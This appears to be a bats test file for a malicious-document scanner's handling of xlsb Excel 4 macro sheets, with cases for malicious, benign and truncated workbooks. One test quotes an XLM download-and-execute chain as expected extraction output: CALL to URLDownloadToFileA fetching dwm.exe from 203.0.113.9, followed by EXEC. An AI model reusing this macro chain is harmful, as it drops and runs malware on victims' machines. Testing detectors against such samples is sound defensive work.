#!/usr/bin/env bats
# xlsb.bats - kensa doc on xlsb workbooks: Excel 4 macro sheets stored as
# BIFF12 records (xl/macrosheets/sheetN.bin), their formulas rendered from
# parsed tokens and judged like any other macros.  Fixtures are written by
# tests/gen/mkxlsb.py.

load helpers

setup_file() {
    export DX="$BATS_FILE_TMPDIR/xlsb"
    python3 "$KENSA_TOP/tests/gen/mkxlsb.py" "$DX"
}

kd() {
    "$KENSA" doc --json --threads 1 --no-summary "$@"
}

@test "xlsb: Auto_Open with CALL(URLDownloadToFileA) and EXEC in a binary macro sheet is malicious" {
    run kd "$DX/xlsb_exec.xlsb"
    [ "$status" -eq 1 ]
    echo "$output" | jqe -s '[.[] | select(.kensa.detector=="maldoc")] |
        length == 1 and .[0].kensa.verdict == "malicious" and
        (.[0].kensa.doc.iocs | index("http://203.0.113.9/dwm.exe")) and
        (.[0].kensa.doc.triggers | index("Auto_Open (XLM)")) and
        (.[0].kensa.evidence | contains("could not read whole") | not)'
}

@test "xlsb: the formulas come out as text with --extract (strings, references, commands)" {
    local out="$BATS_TEST_TMPDIR/ex"
    mkdir -p "$out"
    run "$KENSA" doc --threads 1 --no-summary --extract "$out" "$DX/xlsb_exec.xlsb"
    [ "$status" -eq 1 ]
    local f="$out/xlsb_exec.xlsb.macrosheet.xlm.txt"
    grep -qF '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://203.0.113.9/dwm.exe","C:\Users\Public\dwm.exe",0,0)' "$f"
    grep -qF '=EXEC("C:\Users\Public\dwm.exe")' "$f"
    grep -qxF '=GOTO(A5)' "$f"
    grep -qxF '=HALT()' "$f"
}

@test "xlsb: a macro sheet that sums and returns, without Auto_Open, is macros only (exit 0)" {
    run kd "$DX/xlsb_benign.xlsb"
    [ "$status" -eq 0 ]
    echo "$output" | jqe -s '[.[] | select(.kensa.detector=="maldoc")] |
        length == 1 and .[0].kensa.verdict == "macros" and
        (.[0].kensa.evidence | contains("2 formula"))'
}

@test "xlsb: a sheet cut mid-record keeps what came before and says it was not read whole" {
    run kd "$DX/xlsb_broken.xlsb"
    [ "$status" -eq 1 ]
    echo "$output" | jqe -s '[.[] | select(.kensa.detector=="maldoc")] |
        length == 1 and .[0].kensa.verdict == "malicious" and
        (.[0].kensa.evidence | contains("could not read whole")) and
        (.[0].kensa.evidence | contains("dwm.exe"))'
}
